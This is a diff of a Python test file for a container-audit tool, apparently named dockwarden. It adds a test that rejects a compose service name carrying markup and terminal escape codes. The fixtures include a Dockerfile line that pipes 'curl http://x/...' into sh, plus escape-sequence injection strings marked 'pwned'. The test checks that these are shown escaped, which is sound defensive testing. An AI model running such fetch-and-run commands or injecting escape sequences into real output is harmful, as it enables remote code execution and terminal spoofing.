@@ -373,8 +373,8 @@ def test_sbom_renderers_with_a_hostile_package(fmt: str, h: str) -> None:
 RUN_LINE = "RUN curl http://x/[/] | sh && echo \"\x1b]0;pwned\x1b\\ [bold red]x[/] \x1b[2J\""
 COMPOSE = """\
 services:
-  "web[/]\\e[2J":
-    image: "alpine[bold red]x[/]"
+  web:
+    image: "alpine[bold red]x[/]\\e[2J"
     volumes:
       - "/etc/[/]\\e]0;pwned\\e\\\\:/x"
 """
@@ -414,6 +414,16 @@ def test_cli_compose_with_a_hostile_volume(fmt: str, tmp_path: Path) -> None:
     run = run_dockwarden(["compose", str(path), "--format", fmt])
     check_cli(fmt, run.code, run.out, run.err)
     assert "pwned" in run.out
+
+
+def test_cli_compose_with_a_hostile_service_name(tmp_path: Path) -> None:
+    """Compose allows only [a-zA-Z0-9._-] in a service name: this one is an invalid file
+    (exit 2), and the error that names it is shown escaped."""
+    path = tmp_path / "compose.yml"
+    path.write_text('services:\n  "web[/]\\e[2J":\n    image: alpine\n', encoding="utf-8")
+    run = run_dockwarden(["compose", str(path)])
+    assert run.code == 2 and "invalid compose file" in run.err, run
+    assert_no_raw_controls(run.out + run.err)
 
 
 def run_on_a_tty(args: list[str], timeout: float = 60) -> tuple[int, str]:
